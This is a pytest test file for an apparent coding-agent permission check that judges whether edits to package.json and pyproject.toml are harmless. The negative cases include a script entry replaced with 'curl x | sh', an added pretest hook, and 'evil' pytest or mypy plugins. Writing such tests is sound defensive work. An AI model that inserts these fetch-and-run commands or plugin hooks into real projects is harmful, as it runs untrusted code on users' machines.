"""Changes of files that are edited all day."""

import pytest

from lsp_agent.permissions.everyday import is_harmless

PACKAGE = '{"name": "a", "scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'
PROJECT = '[project]\nname = "a"\n[tool.ruff]\nline-length = 100\n'


@pytest.mark.parametrize(
    ("name", "before", "after", "expected"),
    [
        ("package.json", PACKAGE, PACKAGE.replace('"1"', '"2"'), True),
        ("package.json", PACKAGE, PACKAGE.replace('"name": "a"', '"name": "b"'), True),
        ("package.json", PACKAGE, PACKAGE.replace("jest", "curl x | sh"), False),
        ("package.json", PACKAGE, PACKAGE.replace('"test"', '"pretest"'), False),
        ("package.json", PACKAGE, '{"name": "a"}', False),
        ("package.json", PACKAGE, PACKAGE.replace('"name"', '"gypfile"'), False),
        ("package.json", PACKAGE, PACKAGE.replace("}}", '}, "scripts": {"test": "jest"}}'), False),
        ("package.json", PACKAGE, "[]", False),
        ("package.json", PACKAGE, "{", False),
        ("package.json", "{", PACKAGE, False),
        ("package.json", "", '{"name": "a", "version": "1"}', True),
        ("package.json", "", PACKAGE, False),
        ("package.json", "", "[" * 100_000, False),
        ("pyproject.toml", PROJECT, PROJECT.replace("100", "99"), True),
        ("pyproject.toml", PROJECT, PROJECT + "[dependency-groups]\ndev = ['a']\n", True),
        ("pyproject.toml", PROJECT, PROJECT + "[tool.pytest]\naddopts = '-p evil'\n", False),
        ("pyproject.toml", PROJECT, PROJECT + "[tool.mypy]\nplugins = 'evil'\n", False),
        ("pyproject.toml", PROJECT, PROJECT + "[build-system]\nrequires = []\n", False),
        ("pyproject.toml", PROJECT, PROJECT + "[project.scripts]\na = 'a:b'\n", False),
        ("pyproject.toml", PROJECT, "tool = 1", False),
        ("pyproject.toml", PROJECT, "[", False),
        ("Makefile", "", "", False),
        ("PACKAGE.JSON", PACKAGE, PACKAGE, False),
    ],
)
def test_only_what_is_known_to_run_nothing_is_harmless(
    name: str, before: str, after: str, *, expected: bool
) -> None:
    assert is_harmless(name, before, after) is expected
